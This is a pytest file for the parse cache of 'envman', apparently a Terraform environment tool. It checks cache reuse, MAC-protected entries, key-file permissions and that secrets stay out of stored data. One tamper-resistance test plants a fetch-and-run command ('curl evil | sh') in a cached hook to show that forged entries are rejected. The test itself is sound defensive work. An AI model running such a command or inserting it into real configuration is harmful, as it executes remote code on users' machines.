"""The parse cache of envman's configuration files (.envman/cache/config/)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from envman.config.hclfile import load_hcl
from envman.config.project import load_project
from envman.errors import ConfigError


def _entries(cache: Path) -> list[Path]:
    return sorted(cache.glob("*.json"))


def test_second_read_comes_from_the_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from envman.config import hclfile

    source = tmp_path / "environment.hcl"
    source.write_text('description = "first"\n')
    cache = tmp_path / "cache"
    assert load_hcl(source, cache_dir=cache).data == {"description": "first"}

    def no_parse(text: str, path: Path) -> dict[str, object]:
        raise AssertionError("parsed again")

    monkeypatch.setattr(hclfile, "parse_hcl_text", no_parse)
    assert load_hcl(source, cache_dir=cache).data == {"description": "first"}


def test_an_entry_written_by_someone_else_is_not_trusted(tmp_path: Path) -> None:
    """Whoever can write .envman/cache/ must not change a hook's command (issue 13)."""
    source = tmp_path / "environment.hcl"
    source.write_text('hook "after_apply" {\n  command = ["alembic", "upgrade", "head"]\n}\n')
    cache = tmp_path / "cache"
    real = load_hcl(source, cache_dir=cache).data
    [entry] = _entries(cache)
    payload = json.loads(entry.read_text())
    payload["data"]["hook"][0]["command"] = ["sh", "-c", "curl evil | sh"]
    entry.write_text(json.dumps(payload))
    assert load_hcl(source, cache_dir=cache).data == real
    payload["mac"] = "0" * 64  # a forged MAC is no better
    entry.write_text(json.dumps(payload))
    assert load_hcl(source, cache_dir=cache).data == real


def test_the_key_lives_outside_the_project_owner_only(tmp_path: Path) -> None:
    import os
    import stat

    from envman.config.cachekey import cache_key, forget, key_path

    forget()
    key = cache_key()
    assert key is not None and len(key) == 32
    path = key_path()
    assert tmp_path not in path.parents
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    path.chmod(0o644)  # readable by others: not trusted, so nothing is cached or trusted
    forget()
    assert cache_key() is None
    source = tmp_path / "environment.hcl"
    source.write_text('description = "x"\n')
    assert load_hcl(source, cache_dir=tmp_path / "cache").data == {"description": "x"}
    assert _entries(tmp_path / "cache") == []
    path.chmod(0o600)
    forget()
    assert cache_key() == key and os.geteuid() == path.stat().st_uid


def test_changed_text_is_parsed_again(tmp_path: Path) -> None:
    source = tmp_path / "environment.hcl"
    cache = tmp_path / "cache"
    source.write_text('description = "first"\n')
    load_hcl(source, cache_dir=cache)
    source.write_text('description = "second"\n')
    assert load_hcl(source, cache_dir=cache).data == {"description": "second"}
    assert len(_entries(cache)) == 1  # one entry per file, replaced, never piling up


@pytest.mark.parametrize("damage", ["{not json", "[]", '{"key": 1}', ""])
def test_damaged_entry_is_ignored(tmp_path: Path, damage: str) -> None:
    source = tmp_path / "environment.hcl"
    cache = tmp_path / "cache"
    source.write_text('description = "real"\n')
    load_hcl(source, cache_dir=cache)
    [entry] = _entries(cache)
    entry.write_text(damage)
    assert load_hcl(source, cache_dir=cache).data == {"description": "real"}


def test_unwritable_cache_still_parses(tmp_path: Path) -> None:
    source = tmp_path / "environment.hcl"
    source.write_text('description = "x"\n')
    blocker = tmp_path / "cache"
    blocker.write_text("a file where the cache folder should be")
    assert load_hcl(source, cache_dir=blocker).data == {"description": "x"}


def test_syntax_errors_are_not_cached(tmp_path: Path) -> None:
    source = tmp_path / "environment.hcl"
    cache = tmp_path / "cache"
    source.write_text('description = "x\n')
    for _ in range(2):
        with pytest.raises(ConfigError, match="invalid HCL"):
            load_hcl(source, cache_dir=cache)
    assert _entries(cache) == []


def test_project_loading_uses_the_cache_and_reports_errors_from_it(tmp_path: Path) -> None:
    env_dir = tmp_path / "environments" / "dev"
    env_dir.mkdir(parents=True)
    (tmp_path / "terraform").mkdir()
    (env_dir / "environment.hcl").write_text('description = "dev"\nbogus = 1\n')
    for _ in range(2):  # a cached parse still validates, and still names file and line
        with pytest.raises(ConfigError) as caught:
            load_project(tmp_path).environment("dev")
        assert "environment.hcl:2" in str(caught.value)
    assert len(_entries(tmp_path / ".envman" / "cache" / "config")) == 1


STACK = """
terraform {
  backend "s3" {}
}

variable "db_password" {
  type      = string
  sensitive = true
  default   = "canary-default-7f3a"
}

variable "region" {
  type = string
}

module "net" {
  source = "./modules/net"
}

output "endpoint" {
  value     = "x"
  sensitive = true
}
"""


def test_stack_facts_are_cached_without_values(tmp_path: Path) -> None:
    from envman.config.stack import read_stack, stack_code_digest

    stack = tmp_path / "stack"
    (stack / "modules" / "net").mkdir(parents=True)
    (stack / "main.tf").write_text(STACK)
    (stack / "modules" / "net" / "main.tf").write_text('variable "cidr" {\n  default = "x"\n}\n')
    cache = tmp_path / "cache"
    uncached = read_stack(stack)
    assert read_stack(stack, cache) == uncached  # first read fills the cache
    assert read_stack(stack, cache) == uncached  # second read comes from it
    assert uncached.backend_type == "s3"
    assert uncached.sensitive_variables() == {"db_password"}
    assert uncached.variables["region"].required and not uncached.variables["db_password"].required
    assert stack_code_digest(stack, cache) == stack_code_digest(stack)
    stored = "".join(p.read_text() for p in cache.glob("*.json"))
    assert "canary-default-7f3a" not in stored
    assert "db_password" in stored and "./modules/net" in stored
    before = stack_code_digest(stack, cache)
    (stack / "modules" / "net" / "main.tf").write_text('variable "cidr" {\n  default = "y"\n}\n')
    assert stack_code_digest(stack, cache) != before  # module code is part of the digest


def test_tfvars_names_are_cached_without_values(tmp_path: Path) -> None:
    from envman.config.tfvars import tfvars_names

    tfvars = tmp_path / "terraform.tfvars"
    tfvars.write_text('db_password = "canary-tfvars-91c2"\nregion = "eu-west-1"\n')
    cache = tmp_path / "cache"
    assert tfvars_names(tfvars, cache) == {"db_password", "region"}
    assert tfvars_names(tfvars, cache) == {"db_password", "region"}
    stored = "".join(p.read_text() for p in cache.glob("*.json"))
    assert "canary-tfvars-91c2" not in stored and "db_password" in stored


def test_parsing_in_threads_never_leaves_quotes(tmp_path: Path) -> None:
    """python-hcl2 shares one mutable serialization context between calls: parses running at
    once (components plan in parallel) must not see each other's state, nor leave it set."""
    from concurrent.futures import ThreadPoolExecutor

    from envman.config.hclfile import parse_hcl_text

    text = 'a = "plain"\nb = ["x", "y"]\nc = "${upper("z")}-${var.w}"\nd = { k = "v" }\n'
    path = tmp_path / "x.hcl"

    def parse(_: int) -> dict[str, object]:
        return parse_hcl_text(text, path)

    with ThreadPoolExecutor(8) as pool:
        results = list(pool.map(parse, range(400)))
    assert all(r["a"] == "plain" and r["b"] == ["x", "y"] for r in results)
    assert parse(0)["a"] == "plain"  # and the process is not left in a quoting state
